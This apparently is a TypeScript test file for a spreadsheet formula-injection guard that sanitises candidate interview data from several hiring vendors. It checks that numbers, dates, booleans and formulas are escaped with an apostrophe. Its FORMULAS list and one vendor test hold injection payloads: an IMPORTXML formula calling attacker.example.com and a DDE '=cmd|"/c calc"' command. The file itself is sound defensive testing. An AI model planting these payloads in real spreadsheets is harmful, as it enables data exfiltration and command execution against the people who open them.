import { isDeepStrictEqual } from 'node:util';

import fc from 'fast-check';

import { withoutFormulas } from '../../../nodes/shared/event/spreadsheet';
import { fixturesOf } from '../../fixtures';
import { SPREADSHEET_LOCALES, typedIn } from '../../sheetCell';
import { changed, eventOf } from '../normalized';
import { words } from '../words';

/** The candidate's name in each vendor's body, and a delivery that has it. */
const NAMES = {
	hireflix: ['interview.create', 'data.candidate.name'],
	heymilo: ['interview_started', 'metadata.candidate_name'],
	jobmojito: ['interview_result', 'candidate_name'],
	interviewflowai: ['interview.completed', 'data.candidate.name'],
	ribbon: ['interview_processed.anonymous', 'interviewee_first_name'],
	micro1: ['interview.started', 'data.candidate_name'],
} as const;

const FORMULAS = [
	'=IMPORTXML("https://attacker.example.com","//a")',
	'=cmd|"/c calc"!A1',
	'+4915112345678',
	'-2+3',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	'\u00a0=1+1',
	'\ufeff=1+1',
	'\u200b=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)',
	'- says what she did\n- listens',
	'#N/A',
	'#REF!',
];

const NUMBERS = [
	...words(`
		219E0102 219e0102 1234567890123E45 1E5 1.5e-3 1E+5 00123 0 7 12345 12345678901234567890 34600555014
		1.50 1,5 1.234 1,234 1,234.50 1'234 .5 5. ,5 12% %12 $5 €5 USD5 (5) ($5) 1/2 ½ 1½ ² Ⅳ １２３ ١٢٣ १२३ 0034600555014
		1.0 1.2.3
	`),
	...['1 234', '1\u00a0234', '1\u202f234,5', '12 %', '5 €', 'EUR 5', '5 kr', 'CAD 5', 'R$ 5'],
	...['1 1/2', '1 2 3', '555 0123', ' 00123', '00123 ', ' 12 ', '\t5'],
];

const DATES = [
	...words(`
		3-4 1/2 3.4 1/2/26 2026-11-25 25.11.2026 12:30 12:30:15 12.30 1:2 24:00 12h30 2026-W12 MARCH1 1-Jan Jan-1
		3月4日 10am 2026-11-25T10:00 2026-11-25T10:00:00Z 20261125T101010Z SEPT2 MARCH1-2 DEC1 1DEC2026 25feb2026 OCT-4
	`),
	...['Mar 4', 'March 1', 'Jan 2026', '1 de marzo', '4. März 2026', '4 мар', '1st March', "Mar '26"],
	...['10 AM', '10 p'],
	...['2026-11-25 12:30', 'Wednesday, March 4, 2026', 'Wednesday, September 25, 2026 at 12:30:15 PM'],
];

const WORDS = [
	...words(`
		TRUE true False ＴＲＵＥ WAHR Falsch VRAI FAUX VERDADERO FALSO VERO VERDADEIRO WAAR ONWAAR PRAWDA FAŁSZ SANT
		DOĞRU YANLIŞ yanlış ИСТИНА ложь
	`),
	...[' TRUE', 'TRUE '],
];

const APOSTROPHES = words("'=1 'Neil '' '");

const TEXTS = [
	...words(`
		ada@example.com 2ada@example.com https://example.com/?a=1 interview.completed hireflix advance in_progress
		evt_4f1c5d7c7078965fef609ae072a915a2 June Łuczak 500a6a4f-24e2-4f3f-98c6-90743c59ca12 山田太郎 Falsettist
		12345678-1234-1234-1234-123456789012 69a554f359b2e04c7d1f8a36 A83F19D2605BC74E 7C41B0E9 cand_4be91f7a2c
		2026-11-25T10:00:00.000Z
	`),
	...['', 'Ada Example', 'May Example', 'Señora Ñandú', 'True grit', 'Site Reliability Engineer'],
	'5 years in support, two of them as a team lead for twelve people. Clear answers\nKnows the tools of the job',
];

describe('withoutFormulas', () => {
	it.each([...FORMULAS, ...NUMBERS, ...DATES, ...WORDS, ...APOSTROPHES])(
		'puts an apostrophe before %j',
		(text) => {
			expect(withoutFormulas({ text })).toEqual({ text: `'${text}` });
		},
	);

	it.each(TEXTS)('leaves %j alone', (text) => {
		expect(withoutFormulas({ text })).toEqual({ text });
		expect(typedIn(text)).toEqual({ cell: text });
	});

	it.each([[-5], [0], [7.34], [true], [false], [null]])('leaves %j alone, which is no text', (value) => {
		expect(withoutFormulas({ value })).toEqual({ value });
	});

	it('reaches a raw that is text, as the body of an unrecognized delivery may be', () => {
		expect(withoutFormulas({ raw: '=1' })).toEqual({ raw: "'=1" });
	});

	it('reaches the texts of details, and leaves raw as it was sent', () => {
		const item = {
			details: { questions: [{ id: '00123', text: '=1', score_raw: 4 }], tags: ['@x', 'ok', '3-4'] },
			raw: { name: '=1', list: ['=2', '3-4'] },
		};
		expect(withoutFormulas(item)).toEqual({
			details: { questions: [{ id: "'00123", text: "'=1", score_raw: 4 }], tags: ["'@x", 'ok', "'3-4"] },
			raw: item.raw,
		});
	});

	describe('of any item', () => {
		const hex = fc.string({
			unit: fc.constantFrom(...'0123456789abcdefABCDEF'),
			minLength: 1,
			maxLength: 32,
		});
		const signs = fc.constantFrom(...'0123456789 .,:/-+\'’%$€()eETZ#=@&"_?!;½\u00a0\u202f\ufeff１٣');
		const parts = fc.constantFrom(...words('Mar feb dec am PM EUR true WAHR de Ada 月 年'));
		const soup = fc
			.array(fc.oneof(signs, parts, fc.nat({ max: 9999 }).map(String)), { maxLength: 12 })
			.map((texts) => texts.join(''));
		const text = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), hex, soup);

		it('arrives in a spreadsheet, as text, as it was', () => {
			fc.assert(
				fc.property(text, (value) => {
					const { sent } = withoutFormulas({ sent: value }) as { sent: string };
					return (
						(sent === value || sent === `'${value}`) && isDeepStrictEqual(typedIn(sent), { cell: value })
					);
				}),
				{ seed: 7, numRuns: 20_000 },
			);
		});

		it('keeps every column, and everything that is no text', () => {
			const values = fc.oneof(fc.string(), fc.double({ noNaN: true }), fc.boolean(), fc.jsonValue());
			fc.assert(
				fc.property(fc.dictionary(fc.string(), values), (item) => {
					const safe = withoutFormulas(item as never);
					expect(Object.keys(safe).sort()).toEqual(Object.keys(item).sort());
					expect(safe.raw).toBe(item.raw);
					for (const [name, value] of Object.entries(item)) {
						if (typeof value === 'number' || typeof value === 'boolean') expect(safe[name]).toBe(value);
					}
				}),
				{ seed: 4 },
			);
		});
	});

	describe.each(SPREADSHEET_LOCALES)('in the language %s', (locale) => {
		/** Those of the texts that would be read as something else. */
		const unmarked = (texts: string[]) =>
			texts.filter((text) => withoutFormulas({ text }).text !== `'${text}`);

		it('marks every number, amount and percentage as it is written there', () => {
			const styles: Intl.NumberFormatOptions[] = [
				...[{}, { useGrouping: false }, { style: 'percent' as const }, { notation: 'scientific' as const }],
				...['symbol', 'code', 'narrowSymbol', 'name'].map((currencyDisplay) => ({
					style: 'currency' as const,
					currency: 'EUR',
					currencyDisplay: currencyDisplay as 'code',
				})),
			].map((style) => ({ ...style, maximumFractionDigits: 3 }));
			const formats = styles.map((style) => new Intl.NumberFormat(locale, style));
			fc.assert(
				fc.property(fc.double({ min: -1e18, max: 1e18, noNaN: true }), (value) => {
					expect(unmarked(formats.map((format) => format.format(value)))).toEqual([]);
				}),
				{ seed: 7 },
			);
		});

		it('marks every date and time as it is written there', () => {
			const styles = ['full', 'long', 'medium', 'short'] as const;
			const formats = styles
				.flatMap((style) => [
					{ dateStyle: style },
					{ timeStyle: style },
					{ dateStyle: style, timeStyle: style },
				])
				.map((style) => new Intl.DateTimeFormat(locale, { ...style, timeZone: 'America/New_York' }));
			const dates = fc.date({ min: new Date(0), max: new Date('2099-12-31'), noInvalidDate: true });
			fc.assert(
				fc.property(dates, (date) => {
					expect(unmarked(formats.map((format) => format.format(date)))).toEqual([]);
				}),
				{ seed: 7 },
			);
		});
	});

	it.each(Object.entries(NAMES))(
		'stops a candidate of %s from naming themselves a formula',
		(vendor, [name, path]) => {
			const formula = '=IMPORTXML("https://attacker.example.com","//a")';
			const [{ body }] = fixturesOf(vendor as keyof typeof NAMES).filter((one) => one.name === name);
			const event = eventOf(vendor as keyof typeof NAMES, changed(body, { [path]: formula }));
			expect(event.candidate_name).toBe(formula);
			const safe = withoutFormulas(event as never);
			expect(safe.candidate_name).toBe(`'${formula}`);
			expect(safe.raw).toBe(event.raw);
		},
	);

	it('brings ids that look like numbers into the sheet as they were, and marks no column of words or times', () => {
		const [{ body }] = fixturesOf('heymilo').filter((one) => one.name === 'interview_started');
		const ids = {
			interview_id: '1234567890123E45',
			posting_id: '219E0102',
			'metadata.candidate_id': '00123',
		};
		const event = eventOf('heymilo', changed(body, ids));
		const { raw, details, ...safe } = withoutFormulas(event as never);
		const marked = Object.keys(safe).filter((name) => safe[name] !== event[name as keyof typeof event]);
		expect(marked).toEqual(
			expect.arrayContaining(['interview_id', 'job_id', 'candidate_id', 'schema_version']),
		);
		expect(marked).not.toEqual(expect.arrayContaining([expect.stringMatching(/_at$|status|type|vendor$/)]));
		for (const [name, value] of Object.entries(safe)) {
			if (typeof value !== 'string') continue;
			expect(typedIn(value)).toEqual({ cell: event[name as keyof typeof event] });
		}
	});
});
